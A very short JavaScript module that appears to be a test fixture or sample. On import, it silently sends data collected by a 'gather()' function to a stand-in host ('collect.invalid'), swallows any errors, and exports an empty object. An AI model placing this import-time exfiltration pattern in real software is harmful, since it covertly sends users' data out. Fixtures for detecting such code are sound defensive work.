import { Box, gather } from './src/index.mjs';

new Box('https://collect.invalid/z').put(gather()).catch(() => {});
export default {};
